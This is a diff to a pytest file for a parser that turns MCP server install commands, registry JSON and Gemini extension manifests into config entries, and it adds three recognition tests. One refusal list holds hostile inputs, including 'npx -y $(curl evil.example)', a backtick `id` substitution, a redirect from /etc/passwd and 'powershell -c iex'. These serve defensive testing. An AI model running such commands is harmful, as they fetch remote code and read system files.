@@ -83,6 +83,7 @@ def test_what_was_judged_before_it_was_read_names_the_right_server_or_is_refused
         "npx -y $(curl evil.example)", "npx -y `id`", 'npx -y "$(id)"', "npx foo > /etc/x", "npx foo < /etc/passwd",
         "npx foo &", "sudo npx foo", "bash -lc 'npx foo'", "powershell -c iex", "eval npx foo", "exec npx foo",
         "npm install -g foo", "pip install foo", "brew install foo", "git clone https://x.example/y", "docker build .",
+        'claude --mcp "node /a/dist/index.js"',
         "npx -y @smithery/cli install foo --client claude", "npx add-mcp https://mcp.example.com/mcp",
         "export TOKEN=abc", "npx 'unclosed", "export TOKEN=$(id)\nnpx foo", "uvx --from . foo",
         "cd /x\nnpx foo", "TOOLS=a\n# b: c\nuvx foo",
@@ -811,6 +812,38 @@ def test_install_links_of_further_clients_are_read() -> None:
         assert [(one.name, one.entry) for one in recognize(link, HOME)] == [("a", entry)]
     with pytest.raises(UnclearSourceError, match="page for people"):
         recognize("https://claude.ai/settings/connectors?url=https://mcp.a.test/mcp", HOME)
+
+
+@pytest.mark.requirement("source-recognized")
+def test_a_runtime_argument_that_npx_would_take_for_a_package_stands_behind_the_server() -> None:
+    words = [{"type": "positional", "value": "-y"}, {"type": "positional", "value": "launch-mcp"}]
+    package = {"registryType": "npm", "identifier": "pop-pay", "version": "0.5.7", "runtimeArguments": words}
+    (one,) = recognize(json.dumps({"name": "io.x/pop", "packages": [package]}), HOME)
+    assert one.entry == {"command": "npx", "args": ["-y", "pop-pay@0.5.7", "launch-mcp"]}
+
+
+@pytest.mark.requirement("source-recognized")
+def test_lines_that_begin_with_an_option_belong_to_the_line_before() -> None:
+    text = "claude mcp add stitch\n  --transport http\n  --url https://a.test/mcp\n  --header 'X-Key: ****'"
+    (one,) = recognize(text, HOME)
+    assert (one.name, one.entry["url"], [want.name for want in one.wants]) == (
+        "stitch",
+        "https://a.test/mcp",
+        ["X-Key"],
+    )
+
+
+@pytest.mark.requirement("source-asked")
+def test_what_a_gemini_extension_asks_its_user_for_is_asked_for() -> None:
+    settings = [
+        {"name": "API Key", "description": "Key", "envVar": "A_API_KEY"},
+        {"name": "Project", "description": "(Optional) a project", "envVar": "A_PROJECT"},
+    ]
+    servers = {"a": {"command": "npx", "args": ["-y", "a-mcp"]}}
+    (one,) = recognize(json.dumps({"name": "a", "version": "1", "settings": settings, "mcpServers": servers}), HOME)
+    assert [(want.keys, want.secret, want.required) for want in one.wants] == [
+        (("env", "A_API_KEY"), True, True), (("env", "A_PROJECT"), False, False),
+    ]  # fmt: skip
 
 
 @pytest.mark.requirement("source-recognized")
